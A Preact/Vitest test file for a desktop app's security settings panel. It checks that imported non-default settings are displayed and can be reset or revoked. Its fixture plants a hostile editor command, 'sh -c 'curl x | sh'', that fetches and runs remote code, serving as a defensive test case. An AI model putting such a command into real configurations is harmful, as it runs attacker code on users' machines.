import { cleanup, fireEvent, render, screen, waitFor } from "@testing-library/preact";
import { clearMocks, mockIPC } from "@tauri-apps/api/mocks";
import type { SecurityReset, SecuritySettings } from "../api";
import { resetMessage, SecurityPanel } from "./Security";

afterEach(() => {
  cleanup();
  clearMocks();
});

const imported: SecuritySettings = {
  editor: "custom",
  editor_command: "sh -c 'curl x | sh' {path}",
  model_dir: "/tmp/planted",
  index_secret_files: true,
  link_grants: [
    { repo_id: 4, repo: "api" },
    { repo_id: 9, repo: "web" },
  ],
};

/** A backend holding `imported`, applying resets as the engine does. */
function setup() {
  let now: SecuritySettings = structuredClone(imported);
  const calls: { cmd: string; args: any }[] = [];
  mockIPC((cmd, args: any) => {
    calls.push({ cmd, args });
    if (cmd === "security_get") return now;
    if (cmd !== "security_reset") throw new Error(`unexpected ${cmd}`);
    const reset = args.reset as SecurityReset;
    if (reset.setting === "editor_command") now = { ...now, editor: "vscode", editor_command: null };
    if (reset.setting === "model_dir") now = { ...now, model_dir: null };
    if (reset.setting === "index_secret_files") now = { ...now, index_secret_files: false };
    if (reset.setting === "link_grant") now = { ...now, link_grants: now.link_grants.filter((g) => g.repo_id !== reset.repo_id) };
    if (reset.setting === "all_link_grants") now = { ...now, link_grants: [] };
    return now;
  });
  const toast = vi.fn();
  const onChange = vi.fn();
  const utils = render(<SecurityPanel reloadKey={0} onChange={onChange} toast={toast} />);
  const row = (setting: string) => utils.container.querySelector<HTMLElement>(`.security-row[data-setting="${setting}"]`)!;
  return { ...utils, calls, toast, onChange, row };
}

describe("SecurityPanel", () => {
  it("shows each security setting with its value, marked when it is not the default", async () => {
    const { row, container } = setup();
    await screen.findByText("sh -c 'curl x | sh' {path}");
    expect(row("model-dir").textContent).toContain("/tmp/planted");
    expect(row("secret-files").textContent).toContain("Indexed");
    expect([...container.querySelectorAll(".grant")].map((g) => g.getAttribute("data-repo"))).toEqual(["api", "web"]);
    expect(container.querySelectorAll(".security-row.changed").length).toBe(4);
  });

  it("revokes one link grant by repository id, then the rest", async () => {
    const { calls, toast, container } = setup();
    fireEvent.click(await screen.findByRole("button", { name: "Revoke link access to api" }));
    await waitFor(() => expect(container.querySelector('.grant[data-repo="api"]')).toBeNull());
    expect(container.querySelector('.grant[data-repo="web"]')).not.toBeNull();
    expect(calls.at(-1)).toEqual({ cmd: "security_reset", args: { reset: { setting: "link_grant", repo_id: 4 } } });
    expect(toast).toHaveBeenLastCalledWith("ok", "Link access revoked", undefined);
    fireEvent.click(screen.getByRole("button", { name: "Revoke link access to web" }));
    await screen.findByText("None: links ask before opening any file");
    expect(toast).toHaveBeenLastCalledWith("ok", "Links ask before opening any file", undefined);
  });

  it("resets the editor command, model directory and secret files, and reports the editor change", async () => {
    const { calls, onChange, row, container } = setup();
    await screen.findByText("sh -c 'curl x | sh' {path}");
    fireEvent.click(container.querySelector("#security-editor-reset")!);
    await screen.findByText(/None: results open in VS Code/);
    expect(onChange).toHaveBeenLastCalledWith(expect.objectContaining({ editor: "vscode", editor_command: null }));
    fireEvent.click(container.querySelector("#security-model-reset")!);
    await screen.findByText("Default: $FERRET_MODEL_DIR or the installed files");
    fireEvent.click(container.querySelector("#security-secrets-reset")!);
    await waitFor(() => expect(row("secret-files").textContent).toContain("Skipped"));
    expect(calls.filter((c) => c.cmd === "security_reset").map((c) => c.args.reset.setting)).toEqual(["editor_command", "model_dir", "index_secret_files"]);
    expect(container.querySelector("#security-editor-reset")).toBeNull();
    expect(container.querySelector("#security-model-reset")).toBeNull();
    expect(container.querySelector("#security-secrets-reset")).toBeNull();
  });

  it("shows a failed reset's error and keeps the value", async () => {
    mockIPC((cmd) => {
      if (cmd === "security_get") return imported;
      return Promise.reject({ kind: "not_found", message: "repository 4 has no \"always allow\" for links" });
    });
    const toast = vi.fn();
    const { container } = render(<SecurityPanel reloadKey={0} onChange={() => {}} toast={toast} />);
    fireEvent.click(await screen.findByRole("button", { name: "Revoke link access to api" }));
    await waitFor(() => expect(toast).toHaveBeenCalledWith("error", "repository 4 has no \"always allow\" for links", undefined));
    expect(container.querySelector('.grant[data-repo="api"]')).not.toBeNull();
  });

  it("says what happens next after a reset", () => {
    const now = { ...imported, editor: "zed" as const, link_grants: [] };
    expect(resetMessage({ setting: "editor_command" }, now)).toEqual(["Custom editor command removed", "Results open in Zed."]);
    expect(resetMessage({ setting: "index_secret_files" }, now)[1]).toContain("re-index is queued");
  });
});
